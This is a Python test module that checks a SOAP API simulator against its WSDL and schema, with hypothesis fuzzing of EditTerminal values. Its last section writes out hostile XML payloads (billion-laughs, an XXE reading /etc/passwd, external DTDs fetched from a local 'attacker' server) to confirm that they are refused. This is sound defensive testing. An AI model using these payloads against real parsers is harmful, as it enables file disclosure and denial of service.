"""Our Control Center SOAP contract (`schemas/jasper_soap`: Terminal.wsdl + JasperAPI.xsd) and the
SOAP simulator held against each other, through zeep, a real public SOAP client built from our
WSDL:

- Every operation the WSDL declares is answered, and every answer validates against the XSD.
- Every fault is HTTP 500 `text/xml`, its faultstring a numeric code, its detail schema-valid.
- Any EditTerminal field values (hypothesis: arbitrary unicode with control characters and
  lone surrogates, huge change types, odd dates) get either a schema-valid response that
  round-trips the value, or a SOAP Fault that changed nothing. Never anything else.
- DTDs, entity bombs and external entities are refused with a fault, unexpanded.
"""

from __future__ import annotations

import datetime as dt
import re
import time
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

import pytest
import zeep
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from lxml import etree
from zeep.plugins import HistoryPlugin
from zeep.wsse.username import UsernameToken

from bulkchange_pipeline.schemas import schema_path
from bulkchange_pipeline.simulators.jasper_soap import SOAP_PATH
from bulkchange_pipeline.simulators.jasper_soap_wire import CHANGE_TYPES
from bulkchange_pipeline.simulators.server import ServerHandle
from bulkchange_pipeline_tests.simulators.fixtures import seed_jasper
from bulkchange_pipeline_tests.simulators.jasper_soap_fixtures import (
    LICENSE_KEY,
    SOAP_ENV,
    SOAP_PASSWORD,
    SOAP_USER,
    envelope,
    fault_of,
    parse_answer,
    post_soap,
    soap_simulator,
)

pytestmark = pytest.mark.timeout(120)

JWS = "http://api.jasperwireless.com/ws/schema"
BINDING = f"{{{JWS}}}TerminalBinding"
WSDL = str(schema_path("jasper_soap/Terminal.wsdl"))
XSD = etree.XMLSchema(etree.parse(str(schema_path("jasper_soap/JasperAPI.xsd"))))


@pytest.fixture(scope="module")
def served() -> Iterator[ServerHandle]:
    """One simulator for the module (hypothesis runs many examples against it)."""
    sim = soap_simulator()
    with sim.run_in_thread() as handle:
        yield handle


def service(handle: ServerHandle, history: HistoryPlugin, password: str = SOAP_PASSWORD) -> tuple[zeep.Client, Any]:
    client = zeep.Client(WSDL, wsse=UsernameToken(SOAP_USER, password), plugins=[history])
    return client, client.create_service(BINDING, handle.root_url + SOAP_PATH)


def assert_schema_valid(element: Any) -> None:
    assert XSD.validate(element), (XSD.error_log.last_error, etree.tostring(element))


def received_body(history: HistoryPlugin) -> Any:
    return history.last_received["envelope"].find(f"{{{SOAP_ENV}}}Body")[0]


def header(message_id: str) -> dict[str, str]:
    return {"messageId": message_id, "version": "1.0", "licenseKey": LICENSE_KEY}


SAMPLES = {
    "EditTerminal": lambda iccid: {**header("e-1"), "iccid": iccid, "targetValue": "alice", "changeType": 17},
    "GetTerminalDetails": lambda iccid: {**header("d-1"), "iccids": {"iccid": [iccid, "89000000000000000000"]}},
}


def test_every_wsdl_operation_answers_schema_valid_responses(served) -> None:
    (iccid,) = seed_jasper(served.simulator, 1, start=1000)
    history = HistoryPlugin()
    client, svc = service(served, history)
    operations = {name for binding in client.wsdl.bindings.values() for name in binding._operations}
    assert operations == set(SAMPLES)  # a new operation in the WSDL needs a sample here
    for name in sorted(operations):
        result = getattr(svc, name)(**SAMPLES[name](iccid))
        body = received_body(history)
        assert body.tag == f"{{{JWS}}}{name}Response"
        assert_schema_valid(body)
        assert result.correlationId == SAMPLES[name](iccid)["messageId"]
    terminal = svc.GetTerminalDetails(**SAMPLES["GetTerminalDetails"](iccid)).terminals.terminal
    assert [(t.iccid, t.custom1, t.status) for t in terminal] == [(iccid, "alice", "ACTIVATED_NAME")]


def test_a_client_built_from_the_served_wsdl_talks_to_the_simulator(served) -> None:
    (iccid,) = seed_jasper(served.simulator, 1, start=1001)
    client = zeep.Client(served.root_url + SOAP_PATH + "?wsdl", wsse=UsernameToken(SOAP_USER, SOAP_PASSWORD))
    result = client.service.EditTerminal(**header("w-1"), iccid=iccid, targetValue="CC-9", changeType=18)
    assert result.iccid == iccid and served.simulator.device(iccid)["accountCustom2"] == "CC-9"


@pytest.mark.parametrize(
    "password, call, code",
    [
        ("wrong", lambda s, i: s.GetTerminalDetails(**header("f"), iccids={"iccid": [i]}), "400200"),
        (
            SOAP_PASSWORD,
            lambda s, i: s.GetTerminalDetails(**{**header("f"), "licenseKey": "bad"}, iccids={"iccid": [i]}),
            "400100",
        ),
        (
            SOAP_PASSWORD,
            lambda s, i: s.EditTerminal(**header("f"), iccid="89000000000000000000", targetValue="x", changeType=17),
            "100100",
        ),
        (
            SOAP_PASSWORD,
            lambda s, i: s.EditTerminal(**header("f"), iccid=i, targetValue="x", changeType=9999),
            "100200",
        ),
        (
            SOAP_PASSWORD,
            lambda s, i: s.EditTerminal(**header("f"), iccid=i, targetValue="PURGED_NAME", changeType=3),
            "100300",
        ),
        (
            SOAP_PASSWORD,
            lambda s, i: s.EditTerminal(
                **header("f"), iccid=i, targetValue="x", changeType=17, effectiveDate=dt.date(2001, 1, 1)
            ),
            "100300",
        ),
    ],
)
def test_faults_carry_the_code_as_faultstring_and_a_schema_valid_detail(served, password, call, code) -> None:
    (iccid,) = seed_jasper(served.simulator, 1, start=1002)
    history = HistoryPlugin()
    _, svc = service(served, history, password)
    with pytest.raises(zeep.exceptions.Fault) as raised:
        call(svc, iccid)
    assert raised.value.message == code and raised.value.code == "SOAP-ENV:Client"
    api_fault = raised.value.detail.find(f"{{{JWS}}}ApiFault")
    assert_schema_valid(api_fault)
    assert api_fault.findtext(f"{{{JWS}}}errorCode") == code
    assert served.simulator.applied_counts.get(iccid, 0) == 0


# -- property: arbitrary EditTerminal values -------------------------------------------------------

_TEXT = st.text(st.characters(codec=None, exclude_categories=()), max_size=40)  # surrogates and controls included
# Any unicode XML 1.0 can carry: no surrogates, no C0 controls but tab/newline/CR, no U+FFFE/U+FFFF.
_PLAIN = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), include_characters="\t\n\r", exclude_characters="\ufffe\uffff"),
    max_size=40,
)
_ZEEP = zeep.Client(WSDL, wsse=UsernameToken(SOAP_USER, SOAP_PASSWORD))
_SVC = _ZEEP.create_service(BINDING, "http://127.0.0.1:9/ws/service/terminal")


def edit_envelope(fields: dict[str, Any]) -> bytes:
    """The EditTerminal envelope zeep builds from `fields`; when zeep (lxml) cannot put a value
    in XML at all (a control character, a lone surrogate), the same envelope by hand, with the
    offending characters written raw (a lone surrogate as its CESU-8 bytes): what a broken
    client would send."""
    try:
        return bytes(etree.tostring(_ZEEP.create_message(_SVC, "EditTerminal", **fields)))
    except (ValueError, TypeError, zeep.exceptions.Error):
        pass
    date = (
        ""
        if fields.get("effectiveDate") is None
        else f"<jws:effectiveDate>{escape(str(fields['effectiveDate']))}</jws:effectiveDate>"
    )
    value = (
        ""
        if fields.get("targetValue") is None
        else f"<jws:targetValue>{escape(fields['targetValue'])}</jws:targetValue>"
    )
    body = (
        f"<jws:EditTerminalRequest><jws:messageId>p</jws:messageId><jws:version>1.0</jws:version>"
        f"<jws:licenseKey>{LICENSE_KEY}</jws:licenseKey><jws:iccid>{escape(fields['iccid'])}</jws:iccid>"
        f"{date}{value}<jws:changeType>{fields['changeType']}</jws:changeType></jws:EditTerminalRequest>"
    )
    return envelope(body, errors="surrogatepass")


_XML_CHAR = re.compile("^[\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]*$")
_CODES = st.sampled_from(sorted(CHANGE_TYPES))


@settings(max_examples=75, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    known=st.sampled_from([True, True, False]),
    iccid=_TEXT,
    change_type=st.one_of(_CODES, _CODES, st.integers(), st.integers(-(2**80), 2**80)),
    target=st.one_of(
        st.none(), _TEXT, _PLAIN, _PLAIN, st.sampled_from(["ACTIVATED_NAME", "DEACTIVATED_NAME", "RETIRED_NAME"])
    ),
    date=st.one_of(st.none(), st.none(), st.dates(dt.date(1, 1, 1), dt.date(9999, 12, 31)), _TEXT),
)
def test_any_edit_values_get_a_valid_response_or_a_fault(served, known, iccid, change_type, target, date) -> None:
    sim = served.simulator
    if known:
        (iccid,) = seed_jasper(sim, 1, start=2000)
    applied_before = sim.applied_counts.get(iccid, 0)
    field = CHANGE_TYPES.get(change_type, "")
    # A custom field on a known SIM, now, with a value XML can carry and no `,` or `*`: must be taken.
    must_accept = (
        known
        and field.startswith("accountCustom")
        and date is None
        and _XML_CHAR.match(target or "") is not None
        and not {",", "*"} & set(target or "")
    )
    fields = {**header("p"), "iccid": iccid, "targetValue": target, "changeType": change_type, "effectiveDate": date}
    r = post_soap(served, "EditTerminal", edit_envelope(fields))
    if r.status_code != 200:
        assert not must_accept, r.text
        _, code, _ = fault_of(r)  # 500, text/xml, a SOAP Fault
        assert code.isdigit()
        assert_schema_valid(parse_answer(r).find(f"detail/{{{JWS}}}ApiFault"))
        assert sim.applied_counts.get(iccid, 0) == applied_before  # a fault changed nothing
        return
    event("accepted")
    assert r.headers["content-type"].startswith("text/xml")
    answer = parse_answer(r)
    assert answer.tag == f"{{{JWS}}}EditTerminalResponse"
    assert_schema_valid(answer)
    assert answer.findtext(f"{{{JWS}}}iccid") == iccid
    if must_accept:
        assert sim.device(iccid)[field] == (target or "")  # stored exactly as sent


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    change_type=st.sampled_from([c for c, f in CHANGE_TYPES.items() if f.startswith("accountCustom")]),
    target=_PLAIN.filter(lambda v: not {",", "*"} & set(v)),
    today=st.booleans(),
)
def test_any_custom_field_value_xml_can_carry_round_trips_exactly(served, change_type, target, today) -> None:
    sim = served.simulator
    (iccid,) = seed_jasper(sim, 1, start=3000)
    date = sim.clock.now().date() if today else None
    history = HistoryPlugin()
    _, svc = service(served, history)
    svc.EditTerminal(**header("rt"), iccid=iccid, targetValue=target, changeType=change_type, effectiveDate=date)
    assert_schema_valid(received_body(history))
    terminal = svc.GetTerminalDetails(**header("rt"), iccids={"iccid": [iccid]}).terminals.terminal[0]
    assert_schema_valid(received_body(history))
    soap_name = "custom" + CHANGE_TYPES[change_type].removeprefix("accountCustom")
    assert sim.device(iccid)[CHANGE_TYPES[change_type]] == target
    assert (getattr(terminal, soap_name) or "") == target


# -- hostile XML ------------------------------------------------------------------------------------

_OPEN = f'<soapenv:Envelope xmlns:soapenv="{SOAP_ENV}" xmlns:jws="{JWS}"><soapenv:Body>'
_LAUGHS = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
HOSTILE = {
    "billion-laughs": f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{_LAUGHS}]>{_OPEN}&lol9;</soapenv:Body></soapenv:Envelope>',
    "xxe-file": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>{_OPEN}<jws:x>&xxe;</jws:x></soapenv:Body></soapenv:Envelope>',
    "external-dtd": f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://127.0.0.1:9/evil.dtd">{_OPEN}</soapenv:Body></soapenv:Envelope>',
    "undeclared-entity": f"{_OPEN}<jws:x>&xxe;</jws:x></soapenv:Body></soapenv:Envelope>",
}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_dtds_and_entities_are_refused_with_a_fault(served, name, encoding) -> None:
    document = HOSTILE[name]
    if encoding == "utf-16":  # refused as UTF-16 before any parse, so no DOCTYPE check is fooled by it
        document = document.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
    started = time.monotonic()
    r = post_soap(served, "EditTerminal", document.encode(encoding))
    assert time.monotonic() - started < 5
    assert fault_of(r)[1] == "400000"
    assert "root:" not in r.text and "lollol" not in r.text
    message = parse_answer(r).findtext(f"detail/{{{JWS}}}ApiFault/{{{JWS}}}errorMessage")
    # refused for what it is (a DTD, or libxml2's entity amplification guard while it reads one;
    # an undeclared entity is not well-formed), not by luck further on
    expected = ("not well-formed",) if name == "undeclared-entity" else ("DTDs",)
    expected = ("Only UTF-8",) if encoding == "utf-16" else expected
    assert any(e in message for e in expected), message


def test_the_simulator_never_fetches_anything(served) -> None:
    """An external DTD or entity pointing at a live server is never requested: the server
    counts every hit, and stays at zero."""
    from starlette.applications import Starlette
    from starlette.responses import PlainTextResponse
    from starlette.routing import Route

    from bulkchange_pipeline.simulators.server import run_app_in_thread

    hits: list[str] = []

    async def evil(request: Any) -> PlainTextResponse:
        hits.append(request.url.path)
        return PlainTextResponse('<!ENTITY leak "fetched">')

    app = Starlette(routes=[Route("/{name:path}", evil)])
    with run_app_in_thread(app) as attacker:
        documents = [
            f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "{attacker.root_url}/evil.dtd">{_OPEN}</soapenv:Body></soapenv:Envelope>',
            f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "{attacker.root_url}/p.dtd"> %p;]>{_OPEN}</soapenv:Body></soapenv:Envelope>',
            f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "{attacker.root_url}/e">]>{_OPEN}<jws:x>&e;</jws:x></soapenv:Body></soapenv:Envelope>',
        ]
        for document in documents:
            for encoding in ("utf-8", "utf-16"):
                text = document.replace('version="1.0"?>', f'version="1.0" encoding="{encoding.upper()}"?>')
                r = post_soap(served, "EditTerminal", text.encode(encoding))
                refused = "Only UTF-8" if encoding == "utf-16" else "DTDs"
                assert fault_of(r)[1] == "400000" and "fetched" not in r.text and refused in r.text
    assert hits == []
